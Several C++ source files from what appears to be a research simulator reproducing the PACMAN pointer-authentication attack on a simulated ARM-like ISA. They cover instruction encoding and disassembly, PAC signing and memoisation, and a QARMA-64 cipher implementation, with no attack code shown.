        {SysReg::PMCR0, "pmcr0"},
        {SysReg::CURRENT_EL, "currentel"},
        {SysReg::APIAKEY_LO, "apiakeylo_el1"},
        {SysReg::APIAKEY_HI, "apiakeyhi_el1"},
        {SysReg::APIBKEY_LO, "apibkeylo_el1"},
        {SysReg::APIBKEY_HI, "apibkeyhi_el1"},
        {SysReg::APDAKEY_LO, "apdakeylo_el1"},
        {SysReg::APDAKEY_HI, "apdakeyhi_el1"},
        {SysReg::APDBKEY_LO, "apdbkeylo_el1"},
        {SysReg::APDBKEY_HI, "apdbkeyhi_el1"},
        {SysReg::APGAKEY_LO, "apgakeylo_el1"},
        {SysReg::APGAKEY_HI, "apgakeyhi_el1"},
        {SysReg::CLIDR_EL1, "clidr_el1"},
        {SysReg::CSSELR_EL1, "csselr_el1"},
        {SysReg::CCSIDR_EL1, "ccsidr_el1"},
        {SysReg::TTBR0_EL1, "ttbr0_el1"},
        {SysReg::TTBR1_EL1, "ttbr1_el1"},
        {SysReg::ELR_EL1, "elr_el1"},
        {SysReg::VBAR_EL1, "vbar_el1"},
        {SysReg::ESR_EL1, "esr_el1"},
    };
    return table;
}

} // anonymous namespace

std::string
sysRegName(SysReg reg)
{
    for (const auto &[r, name] : sysRegTable()) {
        if (r == reg)
            return name;
    }
    return "sysreg#" + std::to_string(unsigned(reg));
}

int
parseSysRegName(const std::string &name)
{
    std::string low(name);
    std::transform(low.begin(), low.end(), low.begin(),
                   [](unsigned char ch) { return std::tolower(ch); });
    for (const auto &[r, n] : sysRegTable()) {
        if (low == n)
            return int(r);
    }
    return -1;
}

bool
sysRegEl0Readable(SysReg reg)
{
    return reg == SysReg::CNTPCT_EL0 || reg == SysReg::CNTFRQ_EL0 ||
           reg == SysReg::CURRENT_EL;
}

} // namespace pacman::isa
