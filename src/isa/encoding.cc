#include "encoding.hh"

#include "base/bitfield.hh"
#include "base/logging.hh"

namespace pacman::isa
{

namespace
{

/** Encoding format families, derived from the opcode. */
enum class Format
{
    R, I, M, B, C, D, S, W, None,
};

Format
formatOf(Opcode op)
{
    switch (op) {
      case Opcode::ADD:
      case Opcode::SUB:
      case Opcode::AND:
      case Opcode::ORR:
      case Opcode::EOR:
      case Opcode::LSLV:
      case Opcode::LSRV:
      case Opcode::ASRV:
      case Opcode::MUL:
      case Opcode::SUBS:
      case Opcode::ADDS:
      case Opcode::CMP:
      case Opcode::MOVR:
      case Opcode::LDRR:
      case Opcode::STRR:
      case Opcode::BR:
      case Opcode::BLR:
      case Opcode::RET:
      case Opcode::BRAA:
      case Opcode::BLRAA:
      case Opcode::RETAA:
      case Opcode::PACIA:
      case Opcode::PACIB:
      case Opcode::PACDA:
      case Opcode::PACDB:
      case Opcode::AUTIA:
      case Opcode::AUTIB:
      case Opcode::AUTDA:
      case Opcode::AUTDB:
      case Opcode::XPAC:
        return Format::R;
      case Opcode::ADDI:
      case Opcode::SUBI:
      case Opcode::ANDI:
      case Opcode::ORRI:
      case Opcode::EORI:
      case Opcode::LSLI:
      case Opcode::LSRI:
      case Opcode::ASRI:
      case Opcode::SUBSI:
      case Opcode::CMPI:
      case Opcode::LDR:
      case Opcode::STR:
      case Opcode::LDRB:
      case Opcode::STRB:
        return Format::I;
      case Opcode::MOVZ:
      case Opcode::MOVK:
        return Format::M;
      case Opcode::B:
      case Opcode::BL:
        return Format::B;
      case Opcode::BCOND:
        return Format::C;
      case Opcode::CBZ:
      case Opcode::CBNZ:
        return Format::D;
      case Opcode::MRS:
      case Opcode::MSR:
        return Format::S;
      case Opcode::SVC:
      case Opcode::HLT:
      case Opcode::BRK:
        return Format::W;
      case Opcode::ERET:
      case Opcode::ISB:
      case Opcode::DSB:
      case Opcode::NOP:
        return Format::None;
      default:
        return Format::None;
    }
}

bool
knownOpcode(uint8_t byte)
{
    const Opcode op = Opcode(byte);
    switch (op) {
      case Opcode::ADD: case Opcode::SUB: case Opcode::AND:
      case Opcode::ORR: case Opcode::EOR: case Opcode::LSLV:
      case Opcode::LSRV: case Opcode::ASRV: case Opcode::MUL:
      case Opcode::SUBS: case Opcode::ADDS: case Opcode::CMP:
      case Opcode::MOVR: case Opcode::ADDI: case Opcode::SUBI:
      case Opcode::ANDI: case Opcode::ORRI: case Opcode::EORI:
      case Opcode::LSLI: case Opcode::LSRI: case Opcode::ASRI:
      case Opcode::SUBSI: case Opcode::CMPI: case Opcode::MOVZ:
      case Opcode::MOVK: case Opcode::LDR: case Opcode::STR:
      case Opcode::LDRB: case Opcode::STRB: case Opcode::LDRR:
      case Opcode::STRR: case Opcode::B: case Opcode::BL:
      case Opcode::BCOND: case Opcode::CBZ: case Opcode::CBNZ:
      case Opcode::BR: case Opcode::BLR: case Opcode::RET:
      case Opcode::BRAA: case Opcode::BLRAA: case Opcode::RETAA:
      case Opcode::PACIA: case Opcode::PACIB: case Opcode::PACDA:
      case Opcode::PACDB: case Opcode::AUTIA: case Opcode::AUTIB:
      case Opcode::AUTDA: case Opcode::AUTDB: case Opcode::XPAC:
      case Opcode::MRS: case Opcode::MSR: case Opcode::SVC:
      case Opcode::ERET: case Opcode::ISB: case Opcode::DSB:
      case Opcode::NOP: case Opcode::HLT: case Opcode::BRK:
        return true;
      default:
        return false;
    }
}

/** Check and encode a signed word-scaled branch offset. */
uint64_t
encodeWordOffset(const Inst &inst, unsigned nbits)
{
    if (inst.imm % InstBytes != 0) {
        fatal("encode %s: branch offset %lld not word-aligned",
              opcodeName(inst.op).c_str(), (long long)inst.imm);
    }
    const int64_t words = inst.imm / InstBytes;
    if (!fitsSigned(words, nbits)) {
        fatal("encode %s: branch offset %lld exceeds %u-bit field",
              opcodeName(inst.op).c_str(), (long long)inst.imm, nbits);
    }
    return uint64_t(words) & mask(nbits);
}

} // anonymous namespace

InstWord
encode(const Inst &inst)
{
    uint64_t word = uint64_t(uint8_t(inst.op)) << 24;

    PACMAN_ASSERT(inst.rd < NumRegs && inst.rn < NumRegs &&
                  inst.rm < NumRegs,
                  "encode %s: register index out of range",
                  opcodeName(inst.op).c_str());

    switch (formatOf(inst.op)) {
      case Format::R:
        word = insertBits(word, 23, 19, inst.rd);
        word = insertBits(word, 18, 14, inst.rn);
        word = insertBits(word, 13, 9, inst.rm);
        break;
      case Format::I:
        if (!fitsSigned(inst.imm, 14)) {
            fatal("encode %s: immediate %lld exceeds signed 14-bit field",
                  opcodeName(inst.op).c_str(), (long long)inst.imm);
        }
        word = insertBits(word, 23, 19, inst.rd);
        word = insertBits(word, 18, 14, inst.rn);
        word = insertBits(word, 13, 0, uint64_t(inst.imm) & mask(14));
        break;
      case Format::M:
        if (!fitsUnsigned(uint64_t(inst.imm), 16)) {
            fatal("encode %s: immediate %lld exceeds 16-bit field",
                  opcodeName(inst.op).c_str(), (long long)inst.imm);
        }
        PACMAN_ASSERT(inst.hw < 4, "encode %s: bad halfword selector %u",
                      opcodeName(inst.op).c_str(), inst.hw);
        word = insertBits(word, 23, 19, inst.rd);
        word = insertBits(word, 18, 17, inst.hw);
        word = insertBits(word, 16, 1, uint64_t(inst.imm));
        break;
      case Format::B:
        word = insertBits(word, 23, 0, encodeWordOffset(inst, 24));
        break;
      case Format::C:
        word = insertBits(word, 23, 20, uint64_t(inst.cond));
        word = insertBits(word, 19, 0, encodeWordOffset(inst, 20));
        break;
      case Format::D:
        word = insertBits(word, 23, 19, inst.rd);
        word = insertBits(word, 18, 0, encodeWordOffset(inst, 19));
        break;
      case Format::S:
        word = insertBits(word, 23, 19, inst.rd);
        word = insertBits(word, 18, 9, uint64_t(inst.sysreg));
        break;
      case Format::W:
        if (!fitsUnsigned(uint64_t(inst.imm), 16)) {
            fatal("encode %s: immediate %lld exceeds 16-bit field",
                  opcodeName(inst.op).c_str(), (long long)inst.imm);
        }
        word = insertBits(word, 15, 0, uint64_t(inst.imm));
        break;
      case Format::None:
        break;
    }
    return InstWord(word);
}

std::optional<Inst>
decode(InstWord word)
{
    const uint8_t opbyte = uint8_t(bits(word, 31, 24));
    if (!knownOpcode(opbyte))
        return std::nullopt;

    Inst inst;
    inst.op = Opcode(opbyte);

    switch (formatOf(inst.op)) {
      case Format::R:
        inst.rd = RegIndex(bits(word, 23, 19));
        inst.rn = RegIndex(bits(word, 18, 14));
        inst.rm = RegIndex(bits(word, 13, 9));
        break;
      case Format::I:
        inst.rd = RegIndex(bits(word, 23, 19));
        inst.rn = RegIndex(bits(word, 18, 14));
        inst.imm = sext(bits(word, 13, 0), 14);
        break;
      case Format::M:
        inst.rd = RegIndex(bits(word, 23, 19));
        inst.hw = uint8_t(bits(word, 18, 17));
        inst.imm = int64_t(bits(word, 16, 1));
        break;
      case Format::B:
        inst.imm = sext(bits(word, 23, 0), 24) * InstBytes;
        break;
      case Format::C: {
        // Condition 0b1111 is not encodable by the assembler; treat
        // it as AL (as AArch64 does for the NV encoding).
        const uint64_t cond = bits(word, 23, 20);
        inst.cond = cond >= 15 ? Cond::AL : Cond(cond);
        inst.imm = sext(bits(word, 19, 0), 20) * InstBytes;
        break;
      }
      case Format::D:
        inst.rd = RegIndex(bits(word, 23, 19));
        inst.imm = sext(bits(word, 18, 0), 19) * InstBytes;
        break;
      case Format::S:
        inst.rd = RegIndex(bits(word, 23, 19));
        inst.sysreg = SysReg(bits(word, 18, 9));
        break;
      case Format::W:
        inst.imm = int64_t(bits(word, 15, 0));
        break;
      case Format::None:
        break;
    }
    return inst;
}

} // namespace pacman::isa
