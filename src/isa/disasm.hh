/**
 * @file
 * PARM64 disassembler: renders decoded instructions in an ARM-flavoured
 * assembly syntax, used by traces, tests, and the gadget scanner's
 * reports.
 */

#ifndef PACMAN_ISA_DISASM_HH
#define PACMAN_ISA_DISASM_HH

#include <string>

#include "isa/inst.hh"

namespace pacman::isa
{

/**
 * Disassemble @p inst.
 *
 * @param pc If non-zero, branch targets are rendered as absolute
 *           addresses instead of relative offsets.
 */
std::string disassemble(const Inst &inst, uint64_t pc = 0);

/** Disassemble a raw instruction word (".word 0x..." if undecodable). */
std::string disassemble(InstWord word, uint64_t pc = 0);

} // namespace pacman::isa

#endif // PACMAN_ISA_DISASM_HH
