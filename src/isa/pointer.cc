#include "pointer.hh"

namespace pacman::isa
{

uint64_t
signPointer(uint64_t ptr, uint64_t modifier, const crypto::PacKey &key)
{
    const uint64_t canonical = stripPac(ptr);
    const uint16_t pac =
        crypto::computePac(canonical, modifier, key, PacBits);
    return withExt(canonical, pac);
}

uint64_t
authPointer(uint64_t ptr, uint64_t modifier, const crypto::PacKey &key)
{
    const uint64_t canonical = stripPac(ptr);
    const uint16_t expected =
        crypto::computePac(canonical, modifier, key, PacBits);
    if (extPart(ptr) == expected)
        return canonical;
    return withExt(ptr, poisonExt(ptr));
}

} // namespace pacman::isa
