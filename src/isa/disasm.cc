#include "disasm.hh"

#include "base/stats.hh"
#include "isa/encoding.hh"

namespace pacman::isa
{

namespace
{

std::string
target(uint64_t pc, int64_t offset)
{
    if (pc != 0)
        return strprintf("0x%llx", (unsigned long long)(pc + offset));
    return strprintf("%+lld", (long long)offset);
}

} // anonymous namespace

std::string
disassemble(const Inst &inst, uint64_t pc)
{
    const std::string op = opcodeName(inst.op);
    const std::string rd = regName(inst.rd);
    const std::string rn = regName(inst.rn);
    const std::string rm = regName(inst.rm);

    switch (inst.op) {
      case Opcode::ADD: case Opcode::SUB: case Opcode::AND:
      case Opcode::ORR: case Opcode::EOR: case Opcode::LSLV:
      case Opcode::LSRV: case Opcode::ASRV: case Opcode::MUL:
      case Opcode::SUBS: case Opcode::ADDS:
        return op + " " + rd + ", " + rn + ", " + rm;
      case Opcode::CMP:
        return op + " " + rn + ", " + rm;
      case Opcode::MOVR:
        return op + " " + rd + ", " + rn;
      case Opcode::ADDI: case Opcode::SUBI: case Opcode::ANDI:
      case Opcode::ORRI: case Opcode::EORI: case Opcode::LSLI:
      case Opcode::LSRI: case Opcode::ASRI: case Opcode::SUBSI:
        return strprintf("%s %s, %s, #%lld", op.c_str(), rd.c_str(),
                         rn.c_str(), (long long)inst.imm);
      case Opcode::CMPI:
        return strprintf("%s %s, #%lld", op.c_str(), rn.c_str(),
                         (long long)inst.imm);
      case Opcode::MOVZ: case Opcode::MOVK:
        if (inst.hw != 0) {
            return strprintf("%s %s, #0x%llx, lsl #%u", op.c_str(),
                             rd.c_str(), (unsigned long long)inst.imm,
                             16 * inst.hw);
        }
        return strprintf("%s %s, #0x%llx", op.c_str(), rd.c_str(),
                         (unsigned long long)inst.imm);
      case Opcode::LDR: case Opcode::LDRB:
        return strprintf("%s %s, [%s, #%lld]", op.c_str(), rd.c_str(),
                         rn.c_str(), (long long)inst.imm);
      case Opcode::STR: case Opcode::STRB:
        return strprintf("%s %s, [%s, #%lld]", op.c_str(), rd.c_str(),
                         rn.c_str(), (long long)inst.imm);
      case Opcode::LDRR: case Opcode::STRR:
        return op + " " + rd + ", [" + rn + ", " + rm + "]";
      case Opcode::B: case Opcode::BL:
        return op + " " + target(pc, inst.imm);
      case Opcode::BCOND:
        return "b." + condName(inst.cond) + " " + target(pc, inst.imm);
      case Opcode::CBZ: case Opcode::CBNZ:
        return op + " " + rd + ", " + target(pc, inst.imm);
      case Opcode::BR: case Opcode::BLR:
        return op + " " + rn;
      case Opcode::RET:
        return inst.rn == LR ? op : op + " " + rn;
      case Opcode::BRAA: case Opcode::BLRAA:
        return op + " " + rn + ", " + rm;
      case Opcode::RETAA:
        return op;
      case Opcode::PACIA: case Opcode::PACIB: case Opcode::PACDA:
      case Opcode::PACDB: case Opcode::AUTIA: case Opcode::AUTIB:
      case Opcode::AUTDA: case Opcode::AUTDB:
        return op + " " + rd + ", " + rn;
      case Opcode::XPAC:
        return op + " " + rd;
      case Opcode::MRS:
        return op + " " + rd + ", " + sysRegName(inst.sysreg);
      case Opcode::MSR:
        return op + " " + sysRegName(inst.sysreg) + ", " + rd;
      case Opcode::SVC: case Opcode::HLT: case Opcode::BRK:
        return strprintf("%s #%lld", op.c_str(), (long long)inst.imm);
      case Opcode::ERET: case Opcode::ISB: case Opcode::DSB:
      case Opcode::NOP:
        return op;
      default:
        return "?unk?";
    }
}

std::string
disassemble(InstWord word, uint64_t pc)
{
    const auto inst = decode(word);
    if (!inst)
        return strprintf(".word 0x%08x", word);
    return disassemble(*inst, pc);
}

} // namespace pacman::isa
