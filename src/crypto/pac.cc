#include "pac.hh"

#include <array>

#include "base/bitfield.hh"
#include "base/logging.hh"

namespace pacman::crypto
{

namespace
{

/** One memoized PAC: the full input tuple plus the result. */
struct PacMemoEntry
{
    uint64_t ptr = 0;
    uint64_t mod = 0;
    uint64_t w0 = 0;
    uint64_t k0 = 0;
    uint32_t meta = ~0u; //!< pac_bits << 8 | rounds; ~0u = empty
    uint16_t pac = 0;
};

constexpr size_t PacMemoSize = 1024; //!< power of two

thread_local std::array<PacMemoEntry, PacMemoSize> pacMemoTable;

#ifdef PACMAN_DISABLE_FASTPATH
thread_local bool pacMemoOn = false;
#else
thread_local bool pacMemoOn = true;
#endif

size_t
pacMemoIndex(uint64_t ptr, uint64_t mod, uint64_t k0)
{
    uint64_t h = ptr ^ (mod * 0x9e3779b97f4a7c15ull) ^ k0;
    h ^= h >> 32;
    return size_t(h) & (PacMemoSize - 1);
}

} // namespace

const char *
pacKeyName(PacKeySelect sel)
{
    switch (sel) {
      case PacKeySelect::IA: return "IA";
      case PacKeySelect::IB: return "IB";
      case PacKeySelect::DA: return "DA";
      case PacKeySelect::DB: return "DB";
      case PacKeySelect::GA: return "GA";
      default: panic("pacKeyName: bad key selector %d", int(sel));
    }
}

uint16_t
computePac(uint64_t canonical_ptr, uint64_t modifier, const PacKey &key,
           unsigned pac_bits, int rounds)
{
    PACMAN_ASSERT(pac_bits >= 1 && pac_bits <= 16,
                  "unsupported PAC width %u", pac_bits);
    const uint32_t meta = (pac_bits << 8) | uint32_t(rounds & 0xff);
    PacMemoEntry *e = nullptr;
    if (pacMemoOn) {
        e = &pacMemoTable[pacMemoIndex(canonical_ptr, modifier, key.k0)];
        if (e->ptr == canonical_ptr && e->mod == modifier &&
            e->w0 == key.w0 && e->k0 == key.k0 && e->meta == meta)
            return e->pac;
    }
    const Qarma64 cipher(key.w0, key.k0, rounds);
    const uint64_t ct = cipher.encrypt(canonical_ptr, modifier);
    // Truncate to the upper unused pointer bits' width. Taking the top
    // bits of the ciphertext mirrors hardware, which slices the QARMA
    // output into the PAC field.
    const auto pac = uint16_t(bits(ct, 63, 64 - pac_bits));
    if (e)
        *e = PacMemoEntry{canonical_ptr, modifier, key.w0, key.k0, meta, pac};
    return pac;
}

void
setPacMemoEnabled(bool on)
{
    pacMemoOn = on;
}

bool
pacMemoEnabled()
{
    return pacMemoOn;
}

} // namespace pacman::crypto
