#include "pac.hh"

#include "base/bitfield.hh"
#include "base/logging.hh"

namespace pacman::crypto
{

const char *
pacKeyName(PacKeySelect sel)
{
    switch (sel) {
      case PacKeySelect::IA: return "IA";
      case PacKeySelect::IB: return "IB";
      case PacKeySelect::DA: return "DA";
      case PacKeySelect::DB: return "DB";
      case PacKeySelect::GA: return "GA";
      default: panic("pacKeyName: bad key selector %d", int(sel));
    }
}

uint16_t
computePac(uint64_t canonical_ptr, uint64_t modifier, const PacKey &key,
           unsigned pac_bits, int rounds)
{
    PACMAN_ASSERT(pac_bits >= 1 && pac_bits <= 16,
                  "unsupported PAC width %u", pac_bits);
    const Qarma64 cipher(key.w0, key.k0, rounds);
    const uint64_t ct = cipher.encrypt(canonical_ptr, modifier);
    // Truncate to the upper unused pointer bits' width. Taking the top
    // bits of the ciphertext mirrors hardware, which slices the QARMA
    // output into the PAC field.
    return uint16_t(bits(ct, 63, 64 - pac_bits));
}

} // namespace pacman::crypto
