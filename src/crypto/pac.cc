#include "pac.hh"

#include <array>
#include <utility>

#include "base/bitfield.hh"
#include "base/logging.hh"

namespace pacman::crypto
{

namespace
{

/** One memoized PAC: the full input tuple plus the result. */
struct PacMemoEntry
{
    uint64_t ptr = 0;
    uint64_t mod = 0;
    uint64_t w0 = 0;
    uint64_t k0 = 0;
    uint32_t meta = ~0u; //!< pac_bits << 8 | rounds; ~0u = empty
    uint16_t pac = 0;
};

/**
 * Two ways per set: the attack's hot loops juggle a handful of live
 * tuples (train auth, probe auth, legit re-sign) whose hashes can
 * collide; direct mapping made such pairs ping-pong and re-run the
 * QARMA key schedule on every alternation. Way 0 is the MRU entry
 * (hits in way 1 swap to the front; fills shift way 0 back).
 */
struct PacMemoSet
{
    PacMemoEntry way[2];
};

constexpr size_t PacMemoSets = 1024; //!< power of two

thread_local std::array<PacMemoSet, PacMemoSets> pacMemoTable;

#ifdef PACMAN_DISABLE_FASTPATH
thread_local bool pacMemoOn = false;
#else
thread_local bool pacMemoOn = true;
#endif

size_t
pacMemoIndex(uint64_t ptr, uint64_t mod, uint64_t k0)
{
    // Full multiplicative mix before truncation: the live tuples are
    // page-aligned kernel pointers sharing their high half, so any
    // index built from xor-folded raw bits alone puts them all in one
    // set (bits [13:0] zero, bits [63:47] equal) and the memo thrashes.
    uint64_t h = ptr ^ (mod * 0x9e3779b97f4a7c15ull) ^ k0;
    h *= 0xbf58476d1ce4e5b9ull;
    h ^= h >> 29;
    return size_t(h) & (PacMemoSets - 1);
}

} // namespace

const char *
pacKeyName(PacKeySelect sel)
{
    switch (sel) {
      case PacKeySelect::IA: return "IA";
      case PacKeySelect::IB: return "IB";
      case PacKeySelect::DA: return "DA";
      case PacKeySelect::DB: return "DB";
      case PacKeySelect::GA: return "GA";
      default: panic("pacKeyName: bad key selector %d", int(sel));
    }
}

uint16_t
computePac(uint64_t canonical_ptr, uint64_t modifier, const PacKey &key,
           unsigned pac_bits, int rounds)
{
    PACMAN_ASSERT(pac_bits >= 1 && pac_bits <= 16,
                  "unsupported PAC width %u", pac_bits);
    const uint32_t meta = (pac_bits << 8) | uint32_t(rounds & 0xff);
    PacMemoSet *set = nullptr;
    const auto matches = [&](const PacMemoEntry &e) {
        return e.ptr == canonical_ptr && e.mod == modifier &&
               e.w0 == key.w0 && e.k0 == key.k0 && e.meta == meta;
    };
    if (pacMemoOn) {
        set = &pacMemoTable[pacMemoIndex(canonical_ptr, modifier, key.k0)];
        if (matches(set->way[0]))
            return set->way[0].pac;
        if (matches(set->way[1])) {
            std::swap(set->way[0], set->way[1]);
            return set->way[0].pac;
        }
    }
    const Qarma64 cipher(key.w0, key.k0, rounds);
    const uint64_t ct = cipher.encrypt(canonical_ptr, modifier);
    // Truncate to the upper unused pointer bits' width. Taking the top
    // bits of the ciphertext mirrors hardware, which slices the QARMA
    // output into the PAC field.
    const auto pac = uint16_t(bits(ct, 63, 64 - pac_bits));
    if (set) {
        set->way[1] = set->way[0];
        set->way[0] =
            PacMemoEntry{canonical_ptr, modifier, key.w0, key.k0, meta, pac};
    }
    return pac;
}

void
setPacMemoEnabled(bool on)
{
    pacMemoOn = on;
}

bool
pacMemoEnabled()
{
    return pacMemoOn;
}

} // namespace pacman::crypto
