#include "qarma64.hh"

#include <array>

#include "base/logging.hh"

namespace pacman::crypto
{

namespace
{

using Cells = std::array<uint8_t, 16>;

/** Round constants: hex expansion of pi, as in the QARMA paper. */
constexpr uint64_t roundConst[8] = {
    0x0000000000000000ull, 0x13198A2E03707344ull,
    0xA4093822299F31D0ull, 0x082EFA98EC4E6C89ull,
    0x452821E638D01377ull, 0xBE5466CF34E90C6Cull,
    0x3F84D5B5B5470917ull, 0x9216D5D98979FB1Bull,
};

/** The reflection constant alpha. */
constexpr uint64_t alpha = 0xC0AC29B7C97C50DDull;

/** The three QARMA S-boxes and their inverses. */
constexpr uint8_t sigma[3][16] = {
    { 0, 14,  2, 10,  9, 15,  8, 11,  6,  4,  3,  7, 13, 12,  1,  5},
    {10, 13, 14,  6, 15,  7,  3,  5,  9,  8,  0, 12, 11,  1,  2,  4},
    {11,  6,  8, 15, 12,  0,  9, 14,  3,  7,  4,  5, 13,  2,  1, 10},
};

constexpr std::array<uint8_t, 16>
invert(const uint8_t (&box)[16])
{
    std::array<uint8_t, 16> inv{};
    for (int i = 0; i < 16; ++i)
        inv[box[i]] = uint8_t(i);
    return inv;
}

constexpr std::array<uint8_t, 16> sigmaInv[3] = {
    invert(sigma[0]), invert(sigma[1]), invert(sigma[2]),
};

/** Cell permutation tau used by ShuffleCells. */
constexpr uint8_t tau[16] = {
    0, 11, 6, 13, 10, 1, 12, 7, 5, 14, 3, 8, 15, 4, 9, 2};

/** Tweak cell permutation h. */
constexpr uint8_t hPerm[16] = {
    6, 5, 14, 15, 0, 1, 2, 3, 7, 12, 13, 4, 8, 9, 10, 11};

constexpr std::array<uint8_t, 16>
invertPerm(const uint8_t (&p)[16])
{
    std::array<uint8_t, 16> inv{};
    for (int i = 0; i < 16; ++i)
        inv[p[i]] = uint8_t(i);
    return inv;
}

constexpr std::array<uint8_t, 16> tauInv = invertPerm(tau);
constexpr std::array<uint8_t, 16> hPermInv = invertPerm(hPerm);

/** Tweak cells stirred by the LFSR omega each round. */
constexpr uint8_t lfsrCells[7] = {0, 1, 3, 4, 8, 11, 13};

/**
 * MixColumns rotation matrix M = Q = circ(0, rho, rho^2, rho): entry
 * [i][j] is the left-rotation amount applied to cell a[j] of the column,
 * with 0 on the diagonal meaning "multiply by zero" (cell omitted).
 */
constexpr uint8_t mixRot[4][4] = {
    {0, 1, 2, 1},
    {1, 0, 1, 2},
    {2, 1, 0, 1},
    {1, 2, 1, 0},
};

/** Unpack a 64-bit block into cells; cell 0 is the MSB nibble. */
Cells
toCells(uint64_t v)
{
    Cells c;
    for (int i = 0; i < 16; ++i)
        c[i] = uint8_t((v >> (60 - 4 * i)) & 0xf);
    return c;
}

/** Pack cells back into a 64-bit block. */
uint64_t
fromCells(const Cells &c)
{
    uint64_t v = 0;
    for (int i = 0; i < 16; ++i)
        v |= uint64_t(c[i] & 0xf) << (60 - 4 * i);
    return v;
}

/** Rotate a 4-bit cell left by @p n. */
uint8_t
rotCell(uint8_t cell, unsigned n)
{
    n &= 3;
    return uint8_t(((cell << n) | (cell >> (4 - n))) & 0xf);
}

/** Forward LFSR omega: b3b2b1b0 -> (b0^b1) b3 b2 b1. */
uint8_t
lfsr(uint8_t x)
{
    const uint8_t b0 = x & 1;
    const uint8_t b1 = (x >> 1) & 1;
    return uint8_t((((b0 ^ b1) & 1) << 3) | (x >> 1));
}

/** Inverse LFSR: recover b0 as (b0^b1) ^ b1 = y3 ^ y0. */
uint8_t
lfsrInv(uint8_t x)
{
    const uint8_t b3 = (x >> 3) & 1;
    const uint8_t b0 = x & 1;
    return uint8_t(((x << 1) & 0xf) | ((b3 ^ b0) & 1));
}

/** ShuffleCells: out[i] = in[tau[i]]. */
uint64_t
shuffle(uint64_t v)
{
    const Cells in = toCells(v);
    Cells out;
    for (int i = 0; i < 16; ++i)
        out[i] = in[tau[i]];
    return fromCells(out);
}

uint64_t
shuffleInv(uint64_t v)
{
    const Cells in = toCells(v);
    Cells out;
    for (int i = 0; i < 16; ++i)
        out[i] = in[tauInv[i]];
    return fromCells(out);
}

/**
 * MixColumns: the state is a 4x4 cell matrix laid out row-major
 * (cell index = 4*row + col); each column is multiplied by M.
 */
uint64_t
mixColumns(uint64_t v)
{
    const Cells in = toCells(v);
    Cells out;
    for (int col = 0; col < 4; ++col) {
        for (int row = 0; row < 4; ++row) {
            uint8_t acc = 0;
            for (int j = 0; j < 4; ++j) {
                if (j == row)
                    continue;
                acc ^= rotCell(in[4 * j + col], mixRot[row][j]);
            }
            out[4 * row + col] = acc;
        }
    }
    return fromCells(out);
}

/** SubCells with a given 16-entry S-box table. */
uint64_t
subCells(uint64_t v, const uint8_t *box)
{
    Cells c = toCells(v);
    for (auto &cell : c)
        cell = box[cell];
    return fromCells(c);
}

/** One step of the tweak schedule: permute by h, then LFSR 7 cells. */
uint64_t
updateTweak(uint64_t tweak)
{
    const Cells in = toCells(tweak);
    Cells out;
    for (int i = 0; i < 16; ++i)
        out[i] = in[hPerm[i]];
    for (uint8_t idx : lfsrCells)
        out[idx] = lfsr(out[idx]);
    return fromCells(out);
}

/** Inverse tweak schedule step. */
uint64_t
downdateTweak(uint64_t tweak)
{
    Cells in = toCells(tweak);
    for (uint8_t idx : lfsrCells)
        in[idx] = lfsrInv(in[idx]);
    Cells out;
    for (int i = 0; i < 16; ++i)
        out[i] = in[hPermInv[i]];
    return fromCells(out);
}

/**
 * Forward round: add round tweakey; for non-short rounds shuffle and
 * mix; substitute cells.
 */
uint64_t
forwardRound(uint64_t is, uint64_t tk, bool short_round, const uint8_t *box)
{
    is ^= tk;
    if (!short_round) {
        is = shuffle(is);
        is = mixColumns(is);
    }
    return subCells(is, box);
}

/** Backward round: exact inverse of forwardRound. */
uint64_t
backwardRound(uint64_t is, uint64_t tk, bool short_round,
              const uint8_t *box_inv)
{
    is = subCells(is, box_inv);
    if (!short_round) {
        is = mixColumns(is); // M is involutory
        is = shuffleInv(is);
    }
    return is ^ tk;
}

/** Central pseudo-reflector with reflection key @p tk. */
uint64_t
pseudoReflect(uint64_t is, uint64_t tk)
{
    is = shuffle(is);
    is = mixColumns(is);
    is ^= tk;
    return shuffleInv(is);
}

/** The orthomorphism o(x) = (x >>> 1) ^ (x >> 63). */
uint64_t
ortho(uint64_t x)
{
    return ((x >> 1) | (x << 63)) ^ (x >> 63);
}

/**
 * Core QARMA-64 computation shared by encrypt and decrypt; the caller
 * provides the (possibly swapped/adjusted) key material.
 */
uint64_t
qarmaCore(uint64_t input, uint64_t tweak, uint64_t w0, uint64_t w1,
          uint64_t k0, uint64_t k1, int rounds, const uint8_t *box,
          const uint8_t *box_inv)
{
    uint64_t is = input ^ w0;

    for (int i = 0; i < rounds; ++i) {
        is = forwardRound(is, k0 ^ tweak ^ roundConst[i], i == 0, box);
        tweak = updateTweak(tweak);
    }

    is = forwardRound(is, w1 ^ tweak, false, box);
    is = pseudoReflect(is, k1);
    is = backwardRound(is, w0 ^ tweak, false, box_inv);

    for (int i = rounds - 1; i >= 0; --i) {
        tweak = downdateTweak(tweak);
        is = backwardRound(is, k0 ^ tweak ^ roundConst[i] ^ alpha, i == 0,
                           box_inv);
    }

    return is ^ w1;
}

} // anonymous namespace

Qarma64::Qarma64(uint64_t w0, uint64_t k0, int rounds, QarmaSbox sbox)
    : w0_(w0), k0_(k0), rounds_(rounds)
{
    if (rounds < 1 || rounds > 8)
        fatal("Qarma64: round count %d out of range [1, 8]", rounds);
    const int idx = int(sbox);
    sbox_ = sigma[idx];
    sboxInv_ = sigmaInv[idx].data();
}

uint64_t
Qarma64::encrypt(uint64_t plaintext, uint64_t tweak) const
{
    return qarmaCore(plaintext, tweak, w0_, ortho(w0_), k0_, k0_, rounds_,
                     sbox_, sboxInv_);
}

uint64_t
Qarma64::decrypt(uint64_t ciphertext, uint64_t tweak) const
{
    // Decryption swaps the whitening keys, adds alpha to the core key,
    // and reflects with M(k0).
    return qarmaCore(ciphertext, tweak, ortho(w0_), w0_, k0_ ^ alpha,
                     mixColumns(k0_), rounds_, sbox_, sboxInv_);
}

} // namespace pacman::crypto
