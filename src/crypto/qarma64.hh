/**
 * @file
 * QARMA-64 tweakable block cipher (Avanzi, ToSC 2017).
 *
 * QARMA is the algorithm ARM recommends for computing Pointer
 * Authentication Codes in ARMv8.3, and is believed to be what Apple's
 * PAC hardware implements. The simulator uses it to compute PACs so the
 * reproduction's PAC distribution, key dependence, and 16-bit truncation
 * behave exactly like the real feature.
 *
 * The cipher operates on a 64-bit block arranged as 16 4-bit cells
 * (cell 0 = most-significant nibble), with a 64-bit tweak and a 128-bit
 * key (w0 || k0). It is a reflection cipher: r forward rounds, a central
 * pseudo-reflector, and r backward rounds.
 */

#ifndef PACMAN_CRYPTO_QARMA64_HH
#define PACMAN_CRYPTO_QARMA64_HH

#include <cstdint>
